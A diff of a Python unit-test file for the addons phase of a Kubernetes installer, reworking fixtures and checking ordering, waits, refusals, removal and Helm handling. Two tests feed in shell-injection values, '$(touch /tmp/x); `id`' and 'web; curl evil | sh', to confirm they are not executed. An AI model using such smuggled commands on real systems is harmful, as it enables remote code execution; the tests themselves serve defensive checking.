@@ -1,129 +1,24 @@
-"""The phase addons over a session without hosts: order, waits, failures, removal."""
+"""The phase addons over played connections: order, waits, failures, removal."""
 
 from __future__ import annotations
 
-import base64
-import gzip
-import json
-from collections.abc import Sequence
 from pathlib import Path
-from typing import Any, cast
+from types import SimpleNamespace
 
 import pytest
 
-from kubeinstall.addons.changes import Change
 from kubeinstall.addons.objects import PART_OF, Object, apply_set
 from kubeinstall.addons.parents import parent
-from kubeinstall.engine.session import Session
-from kubeinstall.engine.types import Event, HostResult, Output, Status
 from kubeinstall.findings import Kind, KubeinstallError
 from kubeinstall.inventory.catalogue.model import Stage
 from kubeinstall.inventory.model import Cluster
 from kubeinstall.phases import addons
 from kubeinstall.phases.addons import rollout
-from kubeinstall.phases.phase import Run
 from tests.unit.addon_folders import applied, deployment, folder, rendered, with_addons
-from tests.unit.fakes import FakeSession, Memory
+from tests.unit.played_addons import again, session_of, started
 from tests.unit.waiting_pods import pod
 
 pytestmark = pytest.mark.unit
-
-
-def packed(documents: Sequence[Object]) -> str:
-    return packed_text(list(documents))
-
-
-def packed_text(said: list[Object] | str) -> str:
-    text = said if isinstance(said, str) else json.dumps({"kind": "List", "items": said})
-    return base64.b64encode(gzip.compress(text.encode())).decode()
-
-
-class Server(FakeSession):
-    """An API server that takes what it is told, and a kubelet that makes it ready when asked.
-
-    Args:
-        refuses: addons it does not take, and why.
-        broken: names of Deployments that never get ready.
-    """
-
-    def __init__(
-        self, cluster: Cluster, refuses: dict[str, str] | None = None, broken: Sequence[str] = ()
-    ) -> None:
-        super().__init__(cluster, answer=self._told)
-        self.parents: dict[str, Object] = {}
-        self.objects: list[Object] = []
-        self.pods: list[Object] = []
-        self.others: list[Object] = []
-        self.done: list[str] = []
-        self.secrets: list[str] = []
-        self.error = ""
-        self.served = ""
-        self.volumes: list[Object] | str = []
-        self._refuses = refuses or {}
-        self._broken = broken
-        self._data: dict[str, Any] = {}
-        self.connect()
-
-    def set_data(self, host: str, key: str, value: Any) -> None:
-        del host
-        self._data[key] = value
-
-    def round(
-        self,
-        phase: str,
-        deploys: Any,
-        *,
-        dry: bool = False,
-        spare: bool = False,
-    ) -> dict[str, HostResult]:
-        assert spare
-        ((host, _),) = deploys.items()
-        change: Change = self._data["addon"]
-        if said := self._refuses.get(change.name):
-            return {host: HostResult(host, [_event(phase, change, Status.FAILED, said)])}
-        if not change.any:
-            return {host: HostResult(host, [_event(phase, change, Status.OK)])}
-        self.done.append(change.operation)
-        self.secrets += [secret.name for secret in change.secrets]
-        if not dry:
-            self._take(change)
-        told = "kept: namespace x stays, because it contains y" if change.gone else ""
-        return {host: HostResult(host, [_event(phase, change, Status.CHANGED, told)])}
-
-    def _take(self, change: Change) -> None:
-        gone = [d["metadata"]["name"] for d in change.removed]
-        self.objects = [o for o in self.objects if o["metadata"]["name"] not in gone]
-        for _, document in change.applied:
-            live = applied(document)
-            if live["kind"] == "Deployment" and live["metadata"]["name"] in self._broken:
-                live["status"]["availableReplicas"] = 0
-            self.objects.append(live)
-        if change.gone:
-            del self.parents[change.name]
-        else:
-            self.parents[change.name] = change.after or change.before or {}
-
-    def _told(self, _host: str, command: str) -> Output:
-        if self.error:
-            return Output(0, base64.b64encode(gzip.compress(self.error.encode())).decode(), "")
-        if "configmaps" in command:
-            parents = packed(list(self.parents.values()))
-            answer = [parents, "::", packed_text(self.served), "--", packed(self.objects)]
-            return Output(0, "\n".join(answer), "")
-        if "persistentvolumes" in command:
-            return Output(0, packed_text(self.volumes), "")
-        if "get events" in command:
-            return Output(0, "Failed: Failed to pull image: no such host\n--\n", "")
-        return Output(0, packed([*self.objects, *self.pods, *self.others]), "")
-
-
-def _event(phase: str, change: Change, status: Status, output: str = "") -> Event:
-    return Event("cp1", phase, change.operation, status, output=output)
-
-
-def started(cluster: Cluster, **settings: Any) -> tuple[Run, Server, Memory]:
-    server, memory = Server(cluster, **settings), Memory()
-    return Run(cluster, cast(Session, server), memory), server, memory
 
 
 @pytest.fixture(autouse=True)
@@ -134,15 +29,16 @@ def _no_pause(monkeypatch: pytest.MonkeyPatch) -> None:
 def test_an_addon_comes_after_those_it_needs_and_a_second_run_does_nothing(tmp_path: Path) -> None:
     folder(tmp_path, "shop", needs=["base"], notices=["open {{ namespace }}"])
     folder(tmp_path, "base")
-    run, server, memory = started(with_addons(tmp_path, shop={}, base={}))
+    run, _, memory = started(with_addons(tmp_path, shop={}, base={}))
     addons.run(run)
-    assert server.done == ["Apply base 1.0", "Apply shop 1.0"]
+    assert memory.done == ["Apply base 1.0", "Apply shop 1.0"]
     assert memory.notes == ["shop: open shop"]
-    server.done.clear()
-    questions = len(server.asked)
+    again(run, memory)
+    questions = len(session_of(run).asked)
     addons.run(run)
-    assert server.done == []
-    asked = [command for _, command in server.asked[questions:]]
+    assert memory.done == []
+    asked = [command for _, command in session_of(run).asked[questions:]]
+    assert asked
     assert all("configmaps" in command for command in asked), "all is known from the one fact"
 
 
@@ -158,9 +54,7 @@ def test_what_is_not_ready_is_told_with_its_pod_and_stops_what_needs_it(
     server.pods[0]["metadata"]["namespace"] = "base"
     clock = iter(range(0, 1000, 4))
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(
-            "kubeinstall.phases.addons.rollout.time.monotonic", lambda: float(next(clock))
-        )
+        patch.setattr(rollout, "time", SimpleNamespace(monotonic=lambda: next(clock), sleep=int))
         with pytest.raises(KubeinstallError) as error:
             addons.run(run)
     assert error.value.exit_code == Kind.CLUSTER
@@ -175,7 +69,7 @@ def test_what_is_not_ready_is_told_with_its_pod_and_stops_what_needs_it(
         "addon shop was not applied",
         "it needs base, which is not ready",
     )
-    assert server.done == ["Apply base 1.0", "Apply other 1.0"]
+    assert memory.done == ["Apply base 1.0", "Apply other 1.0"]
     assert "base: Deployment base/base: 0 of 1 pods" in memory.waits[0]
 
 
@@ -202,13 +96,13 @@ def test_an_image_that_nobody_can_name_ends_the_wait(tmp_path: Path) -> None:
 def test_what_is_refused_is_told_and_the_others_go_on(tmp_path: Path, said: str, then: str) -> None:
     folder(tmp_path, "base")
     folder(tmp_path, "other")
-    run, server, _ = started(with_addons(tmp_path, base={}, other={}), refuses={"base": said})
+    run, _, memory = started(with_addons(tmp_path, base={}, other={}), refuses={"base": said})
     with pytest.raises(KubeinstallError) as error:
         addons.run(run)
     finding = error.value.findings[0]
     assert (finding.what, finding.why) == ("addon base could not be applied", said)
     assert then in finding.next
-    assert server.done == ["Apply other 1.0"]
+    assert memory.done == ["Apply other 1.0"]
 
 
 def test_what_others_changed_is_told_and_taken_back(tmp_path: Path) -> None:
@@ -216,12 +110,12 @@ def test_what_others_changed_is_told_and_taken_back(tmp_path: Path) -> None:
     run, server, memory = started(with_addons(tmp_path, base={}))
     addons.run(run)
     server.objects[-1]["spec"]["replicas"] = 5
-    server.done.clear()
+    again(run, memory)
     addons.run(run)
     assert memory.notes[-1] == (
         "base: spec.replicas of Deployment base/base is 5, set by somebody: reset to 2"
     )
-    assert server.done == [
+    assert memory.done == [
         "Take back spec.replicas of Deployment base/base, set by somebody",
     ]
 
@@ -233,10 +127,10 @@ def test_addons_that_are_named_no_more_go_those_that_need_others_first(tmp_path:
     run, server, memory = started(both)
     addons.run(run)
     server.parents["net"] = parent("net", "1", Stage.NETWORK, [])
-    server.done.clear()
-    run.cluster = with_addons(tmp_path)
+    again(run, memory)
+    again(run, memory, with_addons(tmp_path))
     addons.run(run)
-    assert server.done == ["Remove shop", "Remove base"]
+    assert memory.done == ["Remove shop", "Remove base"]
     assert list(server.parents) == ["net"], "pod networks are another phase's"
     assert memory.notes[-1] == "base: namespace x stays, because it contains y"
 
@@ -255,61 +149,61 @@ def of_helm(made: Cluster, release: str) -> Object:
 def test_a_helm_release_is_left_alone(tmp_path: Path) -> None:
     folder(tmp_path, "base")
     made = with_addons(tmp_path, base={})
-    run, server, _ = started(made)
+    run, server, memory = started(made)
     server.objects = [of_helm(made, "web")]
     server.parents = {"other": parent("other", "1", Stage.ADDONS, [])}
     with pytest.raises(KubeinstallError) as error:
         addons.run(run)
     assert error.value.findings[0].why == "Deployment base/base belongs to the Helm release web"
-    assert server.done == ["Remove other"]
+    assert memory.done == ["Remove other"]
 
 
 def test_an_api_server_that_does_not_tell_ends_the_phase(tmp_path: Path) -> None:
     folder(tmp_path, "base")
-    run, server, _ = started(with_addons(tmp_path, base={}))
+    run, server, memory = started(with_addons(tmp_path, base={}))
     server.error = "Unable to connect to the server"
     with pytest.raises(KubeinstallError) as error:
         addons.run(run)
     assert error.value.findings[0].why == "Unable to connect to the server"
-    assert server.done == []
+    assert memory.done == []
 
 
 def test_a_plan_waits_for_nothing(tmp_path: Path) -> None:
     folder(tmp_path, "shop", needs=["base"])
     folder(tmp_path, "base")
-    run, server, memory = started(with_addons(tmp_path, base={}, shop={}), broken=["base"])
+    run, _, memory = started(with_addons(tmp_path, base={}, shop={}), broken=["base"])
     run.dry = True
     addons.run(run)
-    assert server.done == ["Apply base 1.0", "Apply shop 1.0"]
+    assert memory.done == ["Apply base 1.0", "Apply shop 1.0"]
     assert memory.waits == []
 
 
 def test_nothing_is_done_beside_the_limit(tmp_path: Path) -> None:
     folder(tmp_path, "base")
-    run, server, _ = started(with_addons(tmp_path, base={}))
+    run, _, memory = started(with_addons(tmp_path, base={}))
     run.limit = frozenset({"w1"})
     addons.run(run)
-    assert (server.done, addons.deploys(run)) == ([], {})
+    assert (memory.done, addons.deploys(run)) == ([], {})
 
 
 def test_what_two_addons_share_is_not_removed_with_one(tmp_path: Path) -> None:
     folder(tmp_path, "one", namespace="both")
     folder(tmp_path, "two", namespace="both")
-    run, server, _ = started(with_addons(tmp_path, one={}, two={}))
+    run, server, memory = started(with_addons(tmp_path, one={}, two={}))
     addons.run(run)
-    run.cluster = with_addons(tmp_path, two={})
+    again(run, memory, with_addons(tmp_path, two={}))
     addons.run(run)
     left = {o["metadata"]["name"]: o["metadata"]["labels"][PART_OF] for o in server.objects}
     assert left["both"] == apply_set("two")
     assert "one" not in left
-    server.done.clear()
+    again(run, memory)
     addons.run(run)
-    assert server.done == []
+    assert memory.done == []
 
 
 def test_a_secret_of_the_users_own_is_used(tmp_path: Path) -> None:
     folder(tmp_path, "base", generated_secrets=[{"name": "login", "keys": {"password": 24}}])
-    run, server, _ = started(with_addons(tmp_path, base={}))
+    run, server, memory = started(with_addons(tmp_path, base={}))
     own = {
         "apiVersion": "v1",
         "kind": "Secret",
@@ -318,7 +212,7 @@ def test_a_secret_of_the_users_own_is_used(tmp_path: Path) -> None:
     server.parents = {"other": parent("other", "1", Stage.NETWORK, [])}
     server.others = [own]
     addons.run(run)
-    assert (server.done, server.secrets) == (["Apply base 1.0"], [])
+    assert (memory.done, server.secrets) == (["Apply base 1.0"], [])
     server.others = []
     addons.run(run)
     assert server.secrets == ["login"]
@@ -327,12 +221,12 @@ def test_a_secret_of_the_users_own_is_used(tmp_path: Path) -> None:
 def test_what_is_kept_of_an_addon_and_cannot_be_read_stops_only_that_addon(tmp_path: Path) -> None:
     for name in ("base", "gone", "other"):
         folder(tmp_path, name)
-    run, server, _ = started(with_addons(tmp_path, base={}, gone={}))
+    run, server, memory = started(with_addons(tmp_path, base={}, gone={}))
     addons.run(run)
     for name in ("base", "gone"):
         server.parents[name] |= {"data": {"objects": "{"}}
-    server.done.clear()
-    run.cluster = with_addons(tmp_path, base={}, other={})
+    again(run, memory)
+    again(run, memory, with_addons(tmp_path, base={}, other={}))
     with pytest.raises(KubeinstallError) as error:
         addons.run(run)
     assert [f.what for f in error.value.findings] == [
@@ -343,7 +237,7 @@ def test_what_is_kept_of_an_addon_and_cannot_be_read_stops_only_that_addon(tmp_p
         "on cp1: /usr/bin/kubectl --kubeconfig /etc/kubernetes/admin.conf --request-timeout=15s "
         "-n kube-system edit configmap kubeinstall-addon-base"
     )
-    assert server.done == ["Apply other 1.0"]
+    assert memory.done == ["Apply other 1.0"]
 
 
 def test_what_a_kubelet_calls_a_container_is_no_shell(tmp_path: Path) -> None:
@@ -359,18 +253,18 @@ def test_what_a_kubelet_calls_a_container_is_no_shell(tmp_path: Path) -> None:
     server.pods = [evil]
     with pytest.raises(KubeinstallError):
         addons.run(run)
-    [script] = [command for _, command in server.asked if "get events" in command]
+    [script] = [command for _, command in session_of(run).asked if "get events" in command]
     assert " -c '$(touch /tmp/x); `id`' " in script
 
 
 def test_a_helm_release_with_another_name_than_helm_gives_is_none(tmp_path: Path) -> None:
     folder(tmp_path, "base")
     made = with_addons(tmp_path, base={})
-    run, server, _ = started(made)
+    run, server, memory = started(made)
     server.others = [of_helm(made, "web; curl evil | sh")]
     server.parents = {"other": parent("other", "1", Stage.NETWORK, [])}
     addons.run(run)
-    assert server.done == ["Apply base 1.0"]
+    assert memory.done == ["Apply base 1.0"]
 
 
 def test_a_kind_that_only_the_api_server_knows_is_left_alone_by_a_second_run(
@@ -378,11 +272,11 @@ def test_a_kind_that_only_the_api_server_knows_is_left_alone_by_a_second_run(
 ) -> None:
     pool = {"apiVersion": "example.org/v1", "kind": "Pool", "metadata": {"name": "p"}}
     folder(tmp_path, "base", deployment("base"), pool)
-    run, server, _ = started(with_addons(tmp_path, base={}))
+    run, server, memory = started(with_addons(tmp_path, base={}))
     addons.prepare(run)
     server.served = "pools   example.org/v1   false   Pool"
     addons.run(run)
     assert [o["metadata"].get("namespace") for o in server.objects if o["kind"] == "Pool"] == [None]
-    server.done.clear()
+    again(run, memory)
     addons.run(run)
-    assert server.done == []
+    assert memory.done == []
